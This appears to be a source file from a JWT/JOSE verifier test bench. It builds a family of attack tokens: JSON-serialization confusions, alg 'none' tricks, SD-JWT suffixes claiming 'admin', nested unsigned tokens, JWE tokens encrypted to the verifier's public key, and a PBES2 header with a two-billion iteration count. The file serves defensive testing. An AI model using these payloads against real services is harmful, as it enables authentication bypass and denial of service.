import { encryptCompactJwe, encryptionKey, secretKey } from '@mintmark/jose';
import type { Jwk } from '@mintmark/jose';
import type { Bench } from '../bench.ts';
import { base64url } from '../encode.ts';
import type { AttackDraft, AttackFamily } from '../family.ts';

/** Forms of JOSE that are no signed token in three segments. */
export const serialization: AttackFamily = {
  name: 'serialization',
  title: 'Other forms than a signed token',
  groups: [
    {
      needs: 'valid-token',
      why: 'A JWT is compact; a reader that also takes JSON can be made to check one part and to use another.',
      source: 'RFC 7519 section 3, CVE-2022-39227',
      severity: 'high',
      make: (bench) => jsonForms(bench),
    },
    {
      needs: 'valid-token',
      why: 'What hangs on a good token, or is missing from it, is not covered by the signature.',
      source: 'RFC 7515 section 7.1, RFC 9901 section 4',
      severity: 'medium',
      make: ({ valid: { header, claims, signature } }) => [
        { id: 'detached', title: 'a good token without its claims', token: `${header}..${signature}` },
        {
          id: 'sd-jwt-suffix',
          title: 'a good token with a ~ behind it',
          token: `${header}.${claims}.${signature}~`,
        },
        {
          id: 'sd-jwt-disclosure',
          title: 'a good token with a disclosed claim "admin" behind it',
          token: `${header}.${claims}.${signature}~${base64url('["c2FsdA","admin",true]')}~`,
        },
      ],
    },
    {
      needs: 'signing-key',
      why: 'Claims that are a token themselves have to be opened and checked on their own, or refused.',
      source: 'RFC 7519 section 5.2, RFC 8725 section 3.3',
      severity: 'medium',
      make: async ({ valid: { header, claims, signature }, sign, input }) => {
        const inner = `${header}.${claims}.${signature}`;
        return [
          {
            id: 'nested-signed',
            title: 'a good token signed again',
            token: await sign({ header: { cty: 'JWT' }, claims: inner }),
          },
          {
            id: 'nested-unsigned',
            title: 'a token without a signature inside of a signed one',
            token: await sign({ header: { cty: 'JWT' }, claims: `${input({ header: { alg: 'none' } })}.` }),
          },
        ];
      },
    },
    {
      needs: 'nothing',
      why: 'Encryption to a public key tells nothing of who wrote the claims: everybody can encrypt.',
      source: 'RFC 8725 section 3.3, CVE-2026-29000',
      severity: 'critical',
      make: (bench) => encrypted(bench),
    },
    {
      needs: 'nothing',
      why: 'A token chooses how often a password is hashed; without a limit one request keeps a processor busy for minutes.',
      source: 'RFC 8725 section 3.5, CVE-2023-50967, CVE-2022-36083',
      severity: 'high',
      make: ({ plan }) => {
        const header = {
          alg: 'PBES2-HS512+A256KW',
          enc: 'A256GCM',
          p2s: base64url(plan.random(16)),
          p2c: 2_000_000_000,
        };
        const parts = [JSON.stringify(header), ...[40, 12, 32, 16].map((length) => plan.random(length))];
        return [
          {
            id: 'jwe-huge-p2c',
            title: 'encrypted with a password, hashed two thousand million times',
            token: parts.map(base64url).join('.'),
          },
        ];
      },
    },
  ],
};

function jsonForms({ valid, plan, input }: Bench): readonly AttackDraft[] {
  const { header, claims, signature } = valid;
  const forged = input({ headerSegment: header, claims: { sub: 'admin' } });
  const flattened = { payload: claims, protected: header, signature };
  return [
    {
      id: 'json-flattened',
      title: 'the JSON serialization of a good token',
      token: JSON.stringify(flattened),
    },
    {
      id: 'json-general',
      title: 'the general JSON serialization of a good token',
      token: JSON.stringify({ payload: claims, signatures: [{ protected: header, signature }] }),
    },
    {
      id: 'json-mixed',
      title: 'the JSON serialization of a good token around a forged compact one',
      token: `{"  ${forged}.":"","protected":"${header}","payload":"${claims}","signature":"${signature}"}`,
    },
    {
      id: 'json-unprotected-alg',
      title: 'the JSON serialization with alg none outside of what is signed',
      token: JSON.stringify({ ...flattened, header: { alg: 'none' }, signature: '' }),
    },
    {
      id: 'json-claims-as-token',
      title: 'the claims themselves, without any token',
      token: JSON.stringify({ iss: plan.issuer, aud: plan.audience }),
    },
  ];
}

async function encrypted(bench: Bench): Promise<readonly AttackDraft[]> {
  const { plan, claims, input, victim } = bench;
  const text = JSON.stringify(claims());
  const unsigned = `${input({ header: { alg: 'none' } })}.`;
  const random = secretKey.bytes(plan.random(32), { algorithm: 'dir' });
  const drafts: AttackDraft[] = [
    {
      id: 'jwe-direct',
      title: 'an encrypted token, with a secret of the attacker',
      token: await encryptCompactJwe(text, { key: random, encryption: 'A256GCM' }),
    },
    {
      id: 'jwe-junk',
      title: 'five segments of junk',
      token: `${input({ header: { alg: 'dir', enc: 'A256GCM' } })}.AAAA.AAAA.AAAA`,
    },
  ];
  const key = victim.publicJwk === undefined ? undefined : recipientKey(victim.publicJwk);
  if (key === undefined) return drafts;
  const seal = (content: string, header: Record<string, unknown>): Promise<string> =>
    encryptCompactJwe(content, {
      key,
      encryption: 'A256GCM',
      header: { ...header, ...(victim.kid === undefined ? {} : { kid: victim.kid }) },
    });
  return [
    ...drafts,
    {
      id: 'jwe-to-public-key',
      title: "claims encrypted to the verifier's public key",
      token: await seal(text, {}),
    },
    {
      id: 'jwe-inner-none',
      title: "a token without a signature, encrypted to the verifier's public key",
      token: await seal(unsigned, { cty: 'JWT' }),
    },
  ];
}

/** The public key as one for encryption, where its kind can do that. */
function recipientKey(jwk: Jwk): ReturnType<typeof encryptionKey.jwk> | undefined {
  const { alg: _alg, kid: _kid, use: _use, key_ops: _operations, ...members } = jwk;
  const algorithm = { RSA: 'RSA-OAEP-256', EC: 'ECDH-ES' }[String(jwk.kty)];
  if (algorithm === undefined || jwk['crv'] === 'secp256k1') return undefined;
  return encryptionKey.jwk(members, { algorithm });
}
